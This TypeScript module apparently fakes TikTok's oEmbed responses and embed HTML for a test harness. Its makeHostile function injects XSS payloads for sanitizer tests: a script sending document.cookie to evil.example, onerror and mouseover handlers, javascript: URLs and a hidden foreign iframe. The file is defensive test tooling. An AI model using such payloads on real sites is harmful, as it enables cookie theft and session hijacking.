import { escapeHtml } from "./html";
import { stableHex } from "./state/prng";
import type { CreatorRecord, VideoRecord } from "./state/store";
import type { HostileOembed } from "./types";

const WWW = "https://www.tiktok.com";
const CDN = "https://p16-sign.tiktokcdn-us.com";
/** Cover URLs expire after 6 hours, as TikTok's do. */
const COVER_TTL_SEC = 6 * 3600;

export function videoUrl(username: string, videoId: string): string {
  return `${WWW}/@${username}/video/${videoId}`;
}

/** A signed-looking CDN URL that expires 6 h after `nowSec`. */
export function coverImageUrl(video: VideoRecord, nowSec: number): string {
  const expires = nowSec + COVER_TTL_SEC;
  const signature = stableHex(`cover:${video.id}:${expires}`);
  return `${CDN}/obj/tos-useast5-p-0068-tx/${stableHex(`cover:${video.id}`)}~tplv-noop.image?x-expires=${expires}&x-signature=${signature}`;
}

function slug(text: string): string {
  return text
    .toLowerCase()
    .replace(/[^\p{L}\p{N}]+/gu, "-")
    .replace(/^-+|-+$/g, "");
}

/** The caption as TikTok's embed renders it: escaped text with each #hashtag linked to its tag page. */
function captionHtml(description: string): string {
  return description
    .split(/(#[\p{L}\p{N}_]+)/u)
    .map((part) => {
      if (!part.startsWith("#") || part.length < 2) return escapeHtml(part);
      const tag = part.slice(1);
      const href = `${WWW}/tag/${encodeURIComponent(tag)}?refer=embed`;
      return `<a title="${escapeHtml(tag)}" target="_blank" href="${escapeHtml(href)}">#${escapeHtml(tag)}</a>`;
    })
    .join("");
}

/** TikTok's blockquote embed (oEmbed `html`, Display `embed_html`). Every URL in it is on www.tiktok.com. */
export function embedHtml(video: VideoRecord, creator: CreatorRecord): string {
  const user = escapeHtml(creator.username);
  const sound = `♬ ${video.soundTitle}`;
  const musicHref = `${WWW}/music/${slug(video.soundTitle)}-${video.soundId}?refer=embed`;
  return (
    `<blockquote class="tiktok-embed" cite="${escapeHtml(videoUrl(creator.username, video.id))}" data-video-id="${video.id}" ` +
    `data-embed-from="oembed" style="max-width: 605px;min-width: 325px;"><section>` +
    `<a target="_blank" title="@${user}" href="${WWW}/@${user}?refer=embed">@${user}</a>` +
    `<p>${captionHtml(video.description)}</p>` +
    `<a target="_blank" title="${escapeHtml(sound)}" href="${escapeHtml(musicHref)}">${escapeHtml(sound)}</a>` +
    `</section></blockquote> <script async src="${WWW}/embed.js"></script>`
  );
}

export interface OembedResponse {
  version: string;
  type: string;
  title: string;
  author_url: string;
  author_name: string;
  width: string;
  height: string;
  html: string;
  thumbnail_width: number;
  thumbnail_height: number;
  thumbnail_url: string;
  provider_url: string;
  provider_name: string;
  author_unique_id: string;
  embed_product_id: string;
  embed_type: string;
}

export function oembedResponse(video: VideoRecord, creator: CreatorRecord, nowSec: number): OembedResponse {
  return {
    version: "1.0",
    type: "video",
    title: video.description,
    author_url: `${WWW}/@${creator.username}`,
    author_name: creator.displayName,
    width: "100%",
    height: "100%",
    html: embedHtml(video, creator),
    thumbnail_width: video.width,
    thumbnail_height: video.height,
    thumbnail_url: coverImageUrl(video, nowSec),
    provider_url: WWW,
    provider_name: "TikTok",
    author_unique_id: creator.username,
    embed_product_id: video.id,
    embed_type: "video",
  };
}

const EVIL = "https://evil.example";
const HTML_KINDS = ["script", "event-handler", "javascript-url", "foreign-iframe"] as const;

/** Applies a hostile variant to an otherwise genuine oEmbed response (for sanitizer tests). */
export function makeHostile(response: OembedResponse, hostile: HostileOembed): OembedResponse {
  if (typeof hostile === "object") return { ...response, ...hostile };
  const inject = (markup: string) => response.html.replace("</section>", `${markup}</section>`);
  switch (hostile) {
    case "script":
      return { ...response, html: inject(`<script>fetch("${EVIL}/steal?c="+document.cookie)</script>`) };
    case "event-handler":
      return {
        ...response,
        html: inject(`<img src="x" onerror="alert(document.domain)"><p onmouseover="alert(1)">hover</p>`),
      };
    case "javascript-url":
      return {
        ...response,
        html: response.html.replace(
          /href="https:\/\/www\.tiktok\.com\/@[^"]*"/,
          `href="javascript:alert(document.cookie)"`,
        ),
      };
    case "foreign-iframe":
      return {
        ...response,
        html: inject(`<iframe src="${EVIL}/embed" width="1" height="1"></iframe>`).replace(
          `${WWW}/embed.js`,
          `${EVIL}/embed.js`,
        ),
      };
    case "all": {
      const markup = HTML_KINDS.reduce((poisoned, kind) => makeHostile(poisoned, kind), response);
      return {
        ...markup,
        title: `${response.title}<img src=x onerror=alert(1)>`,
        author_name: `<script>alert("name")</script>${response.author_name}`,
        author_url: "javascript:alert(1)",
        thumbnail_url: `${EVIL}/thumb.jpg`,
      };
    }
  }
}
